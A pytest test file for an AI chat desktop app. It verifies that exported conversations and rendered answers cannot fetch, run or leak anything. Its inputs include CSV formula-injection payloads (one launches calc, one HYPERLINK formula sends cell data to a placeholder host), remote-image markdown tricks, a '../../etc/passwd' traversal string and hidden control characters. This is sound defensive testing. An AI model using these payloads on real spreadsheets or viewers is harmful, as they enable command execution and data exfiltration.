"""What leaves the program as text, a table, HTML, Markdown, JSON: it does nothing, and JSON comes back as it was."""

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.core.asking.request import build_request
from desktop.core.asking.saved_prompts import (
    DEFAULT_QUICK_QUESTIONS,
    matching,
    numbered_instruction,
    questions_from_plain,
    questions_to_plain,
    split_questions,
)
from desktop.core.conversation.conversation import Conversation
from desktop.core.conversation.export import ExportBundle, file_name, from_plain, to_html, to_markdown, to_plain
from desktop.core.conversation.search_query import SearchQuery, excerpt
from desktop.core.conversation.turn import Stage, Turn, Usage
from desktop.core.image.sent_image import SentImage
from desktop.core.markdown.blocks import parsed
from desktop.core.markdown.parser import parser
from desktop.core.markdown.safe_html import html_of
from desktop.core.markdown.safe_markdown import neutralize_markdown
from desktop.core.markdown.syntax_highlighting import Code, highlight, suffix_of
from desktop.core.markdown.table_export import as_csv, as_tsv, cells
from desktop.core.settings.settings import Settings
from desktop.core.untrusted_text import make_controls_visible, strip_control_characters
from tests.core.markdown.test_blocks import TEXTS
from tests.ui.hostile_payloads import PAYLOADS


def conversation(answer: str = "yes", prompt: str = "why?") -> Conversation:
    sent = SentImage("a" * 64, "image/png", 4, 4, 8)
    first = Turn.new("c", prompt, "gpt-4o", "h", 1_700_000_000.0).as_waiting((sent,)).as_streaming(answer, 0.5)
    first = first.done(Usage(10, 5))
    other = replace(Turn.new("c", "or?", "gpt-4o", "h", 1_700_000_001.0), stage=Stage.DONE, answer="no")
    return Conversation.of("c", (first, other), "Mine", first.id, pinned=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_of_an_answer_fetches_and_runs_nothing(payload: str) -> None:
    for page in (False, True):
        made = html_of(payload, page)
        tags = re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>", made)
        allowed = {"a", "p", "code", "pre", "em", "strong", "s", "ul", "ol", "li", "blockquote", "hr", "br", "table"}
        allowed |= {
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "span",
            "sup",
            "div",
            "input",
        }
        allowed |= {"math", "mrow", "mi", "mn", "mo", "msup", "msub", "mfrac", "mtext", "mstyle", "mspace", "msqrt"}
        assert {name for name, _ in tags} <= allowed
        for name, attributes in tags:
            assert not re.search(r"\b(on\w+|src|srcset|background|xlink:href)\s*=", attributes)
            for address in re.findall(r'href="([^"]*)"', attributes):
                assert name == "a"
                assert re.match(r"(https?|mailto):", address)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_exports_are_as_inert(payload: str) -> None:
    page = to_html(ExportBundle((conversation(payload, payload),), {}))
    assert page.count("<img") == 0
    assert "default-src 'none'" in page
    assert "file:" not in "".join(re.findall(r'href="[^"]*"', page))
    made = neutralize_markdown(payload)
    outside = "".join(block.source for block in parsed(made) if block.kind != "code")
    assert not re.search(r"(?<!\\)!\[", re.sub(r"(`+).*?\1", "", outside))


def test_markdown_stays_what_it_was_where_nothing_acts() -> None:
    text = "# h\n\n`<b>` and ```![x](y)```\n\n```html\n<img src=x>\n```\n\n    <code>\n\na < b, <https://x.example>\n"
    assert neutralize_markdown(text) == text
    assert neutralize_markdown("![p](http://x) <b>x</b>") == r"\![p](http://x) \<b>x\</b>"


def test_a_page_holds_all_and_a_picture_is_in_it() -> None:
    page = to_html(ExportBundle((conversation("**b** $x^2$\n\n```py\nx = 1\n```"),), {"a" * 64: b"bytes"}))
    for part in ("<h1>Mine</h1>", "data:image/png;base64,Ynl0ZXM=", "<strong>b</strong>", "<msup>", 'class="number"'):
        assert part in page


def test_markdown_of_a_conversation() -> None:
    made = to_markdown(conversation("An *answer*.", "first\nsecond"), "my pictures")
    assert "# Mine\n" in made
    assert f"![](my%20pictures/{'a' * 16}.png)" in made
    assert "> first\n> second\n" in made
    assert "An *answer*." in made
    assert "gpt-4o at h, 10 tokens in, 5 out" in made


def test_json_reads_back_without_loss() -> None:
    from desktop.core.ids import sha256_hex

    data = b"a picture"
    sent = SentImage(sha256_hex(data), "image/png", 4, 4, len(data))
    held = conversation()
    turns = tuple(replace(turn, images=(sent,), pinned=True) for turn in held.all_turns)
    exported = ExportBundle((Conversation.of("c", turns, "Mine", turns[0].id, True),), {sent.id: data})
    back = from_plain(json.loads(json.dumps(to_plain(exported))))
    assert back.conversations == exported.conversations
    assert dict(back.images) == exported.images


@pytest.mark.parametrize(
    "held",
    [
        None,
        [],
        {},
        {"askance": 2},
        {"askance": 1},
        {"askance": 1, "conversations": [{}], "pictures": {}},
        {"askance": 1, "conversations": [{"id": 1, "given_title": "", "last": "", "turns": [], "pinned": 0}]},
        {"askance": 1, "conversations": [], "pictures": {"a": "not base64!"}},
        {"askance": 1, "conversations": [], "pictures": []},
    ],
)
def test_what_is_no_export_is_refused(held: object) -> None:
    with pytest.raises(ValueError):
        from_plain(held)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("asked_at", -1),
        ("asked_at", 1e300),
        ("answer", 5),
        ("stage", "answering"),
        ("stage", "?"),
        ("expected", -3),
        ("pinned", "yes"),
        ("parent", None),
        ("conversation_id", "other"),
        ("first_word_s", "x"),
        ("retry_s", float("inf")),
        ("answer", "a\ud800"),
        ("trouble", {"kind": "left", "name": "", "detail": "", "status": 0, "code": "", "seconds": "x"}),
        ("trouble", {"kind": "left", "name": "", "detail": 5, "status": 0, "code": "", "seconds": 0}),
        ("pictures", [{"id": "../../x", "mime": "image/png", "width": 1, "height": 1, "bytes": 1}]),
        ("pictures", [{"id": "a" * 64, "mime": "text/html", "width": 1, "height": 1, "bytes": 1}]),
    ],
)
def test_a_turn_that_makes_no_sense_is_refused(field: str, value: object) -> None:
    held = json.loads(json.dumps(to_plain(ExportBundle((conversation(),), {}))))
    held["conversations"][0]["turns"][0][field] = value
    with pytest.raises(ValueError):
        from_plain(held)


def test_an_answer_that_is_still_coming_goes_out_as_stopped() -> None:
    coming = Turn.new("c", "q", "m", "h", 1.0).as_streaming("so far", 0.1)
    held = json.loads(json.dumps(to_plain(ExportBundle((Conversation("c", (coming,)),), {}))))
    (back,) = from_plain(held).conversations[0].turns
    assert (back.stage, back.answer) == (Stage.STOPPED, "so far")


def test_a_picture_under_another_name_is_left_out() -> None:
    held = json.loads(json.dumps(to_plain(ExportBundle((conversation(),), {}))))
    held["pictures"] = {"a" * 64: "AAAA"}
    assert from_plain(held).images == {}


LIVELY = parser.__wrapped__()
LIVELY.options["html"] = True


def acts(markdown: str) -> bool:
    tokens = LIVELY.parse(markdown)
    kinds = {each.type for token in tokens for each in (token, *(token.children or ()))}
    return bool(kinds & {"image", "html_inline", "html_block"})


@pytest.mark.parametrize(
    "tricky",
    [
        r"\![x](http://e/t.png)",
        r"\\![x](http://e/t.png)",
        "\\`![x](http://e/t.png)\\`",
        r"\\<img src=http://e/x>",
        "a `b\nc` ![x](http://e/t.png) `d`",
        "a `b\n\nc` ![x](http://e/t.png) `d`",
        "`` ` ![x](http://e/t.png)",
        "<div>\n\n![x](y)\n\n</div>",
        "- `a\n- ![x](http://e/t.png)`",
        "```\nopen ![x](y)",
        "    ![code](x)\n\ntext ![x](y)",
        "[a]: <x> '`'\n![a] `",
        "| `a | ![x](y) |\n|---|---|\n| b` | <b> |",
        *PAYLOADS,
    ],
)
def test_markdown_that_goes_out_does_nothing_in_other_programs(tricky: str) -> None:
    assert not acts(neutralize_markdown(strip_control_characters(tricky)))


@settings(deadline=None)
@given(st.text(alphabet="`\\!<[](x) \n>/a|", max_size=40))
def test_no_text_gets_through(text: str) -> None:
    assert not acts(neutralize_markdown(text))


@settings(deadline=None)
@given(TEXTS)
def test_any_markdown_becomes_html_and_inert_markdown(text: str) -> None:
    html_of(text, page=True)
    assert not re.search(r"<img\b", html_of(text))
    neutralize_markdown(text)


def test_tables_for_spreadsheets() -> None:
    (block,) = parsed('| a | b |\n|---|---|\n| =SUM(A1) | 1,5 |\n| "q" | -3 |\n| @x | +49 |\n| -cmd | *y* |')
    rows = cells(block)
    assert rows[4] == ("-cmd", "y")
    assert as_tsv(rows).split("\n")[1] == "'=SUM(A1)\t1,5"
    for cell in ('+1+HYPERLINK("http://e/"&A1)', "-2+3+cmd|' /C calc'!A0", "=1", "@x"):
        assert as_csv(((cell,),)).lstrip('"').startswith("'")
    assert as_csv((("-3.5 %", "+1,000", "a;=B1"),)) == '-3.5 %,"+1,000","a;=B1"'
    assert as_csv(rows).split("\n") == ["a,b", '\'=SUM(A1),"1,5"', '"""q""",-3', "'@x,+49", "'-cmd,y"]


def test_code_in_colours() -> None:
    text = "def f():\n    return 'x'  # why\n"
    spans = {text[each.start : each.start + each.length].strip(): each.kind for each in highlight(Code("python", text))}
    assert spans["def"] == "keyword"
    assert spans["f"] == "name"
    assert spans["# why"] == "comment"
    assert highlight(Code("no such language", text)) == ()
    assert highlight(Code("", text)) == ()
    assert highlight(Code("python", "x" * 30_000)) == ()
    assert [suffix_of(each) for each in ("python", "Bash", "../../etc", "")] == [".py", ".sh", ".txt", ".txt"]


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=200), st.sampled_from(["python", "json", "html", "bash", "c++", "diff", "sql", "yaml"]))
def test_colours_are_of_letters_that_are_there(text: str, language: str) -> None:
    at = 0
    for span in highlight(Code(language, text)):
        assert span.start >= at
        at = span.start + span.length
        assert at <= len(text)


def test_what_hides_is_seen_and_what_acts_is_gone() -> None:
    assert make_controls_visible("a\u202eb\u200bc\x1b[31md\x07") == "a‹U+202E›b‹U+200B›c␛[31md␇"
    assert make_controls_visible("tab\tand\nline") == "tab\tand\nline"
    assert make_controls_visible("👩\u200d👩\u200d👧 می\u200cخواهم") == "👩\u200d👩\u200d👧 می\u200cخواهم"
    assert make_controls_visible("a\u200db") == "a‹U+200D›b"
    assert make_controls_visible("\U000e0041") == "‹U+E0041›"
    assert strip_control_characters("a\u202eb\u200bc\x1b[31md\x07\u3164") == "abcd"


def test_several_questions_are_told_to_the_model_and_single_ones_are_not() -> None:
    prompt = "Please:\n1. What is it?\n2) Where is it?\n- Read the title"
    assert split_questions(prompt) == ("What is it?", "Where is it?", "Read the title")
    assert split_questions("- milk\n- eggs") == ()
    assert split_questions("What is it?\nWhere?") == ()
    assert split_questions("1. What?") == ()
    said = build_request(Settings(), Conversation("c"), prompt, (), {}).messages[-1]
    assert said.text == prompt
    assert said.about == numbered_instruction(prompt)
    assert "3 questions" in said.about
    assert build_request(Settings(), Conversation("c"), "What?", (), {}).messages[-1].about == ""


def test_the_library_of_quick_questions_comes_back() -> None:
    assert (
        questions_from_plain(json.loads(json.dumps(questions_to_plain(DEFAULT_QUICK_QUESTIONS))))
        == DEFAULT_QUICK_QUESTIONS
    )
    assert questions_from_plain({}) == DEFAULT_QUICK_QUESTIONS
    assert questions_from_plain({"questions": []}) == ()
    assert questions_from_plain({"questions": [1, {"name": ""}, {"name": "a", "words": "b"}]})[0].name == "a"
    assert [each.name for each in matching(DEFAULT_QUICK_QUESTIONS, "t")][:2] == ["Table to CSV", "Translate"]


def test_an_excerpt_is_around_what_was_found() -> None:
    text = "word " * 40 + "needle here " + "word " * 40
    assert "needle" in excerpt(text, SearchQuery("needle"))
    assert excerpt(text, SearchQuery("needle")).startswith("…")
    assert excerpt("short", SearchQuery("x")) == "short"
    assert SearchQuery('a "b c" d').parts == ("a", "b c", "d")


def test_the_form_of_json_is_documented_field_by_field() -> None:
    injection_notice = (Path(__file__).parents[2] / "docs" / "conversations.md").read_text("utf-8")
    made = to_plain(ExportBundle((conversation(),), {}))
    names = {*made, *made["conversations"][0], *made["conversations"][0]["turns"][0]}
    names |= {*made["conversations"][0]["turns"][0]["pictures"][0], *made["conversations"][0]["turns"][0]["usage"]}
    assert [name for name in sorted(names) if f"`{name}`" not in injection_notice] == []


def test_names_of_files_are_plain() -> None:
    assert file_name("../../etc/passwd: why?") == "etc passwd why"
    assert file_name("…") == "conversation"
    assert len(file_name("x" * 300)) <= 60
